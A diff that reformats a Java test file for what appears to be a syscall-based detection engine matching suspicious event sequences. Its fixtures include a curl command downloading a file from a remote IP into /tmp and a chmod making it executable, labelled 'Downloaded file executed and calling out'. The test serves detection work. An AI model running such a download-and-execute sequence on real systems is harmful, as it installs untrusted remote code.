@@ -33,7 +33,8 @@ class StarterSequencesTest {
   /** Sequence, events a second apart that fire it, events that do not. */
   static Stream<Arguments> cases() {
     TestEvent fetch = execve("/usr/bin/curl", "-o", "/tmp/x", "http://203.0.113.9/x");
-    TestEvent drop = call("chmod").by("/bin/chmod").argument("filename", "/tmp/x").argument("mode", "0755");
+    TestEvent drop =
+        call("chmod").by("/bin/chmod").argument("filename", "/tmp/x").argument("mode", "0755");
     return Stream.of(
         arguments(
             "Downloaded file executed and calling out",
@@ -116,8 +117,7 @@ class StarterSequencesTest {
     List<Sequence> sequences = follow(List.of()).sequences().sequences();
     assertThat(sequences)
         .extracting(Sequence::name)
-        .containsExactlyInAnyOrderElementsOf(
-            cases().map(one -> (String) one.get()[0]).toList());
+        .containsExactlyInAnyOrderElementsOf(cases().map(one -> (String) one.get()[0]).toList());
     assertThat(sequences)
         .allSatisfy(
             one -> {
@@ -131,8 +131,7 @@ class StarterSequencesTest {
         new Follower(SequenceLimits.USUAL, StarterRules.load().toArray(new RuleFile[0]));
     long time = TestEvent.TIME_NS;
     for (TestEvent event : events) {
-      follower.see(
-          event.label("host.name", "web-1").set(SyscallFacts.EVENT_TIME_NS, time));
+      follower.see(event.label("host.name", "web-1").set(SyscallFacts.EVENT_TIME_NS, time));
       time += events.size() > 50 ? SECOND_NS / 100 : SECOND_NS / 4;
     }
     return follower.until(time + 3600 * SECOND_NS);
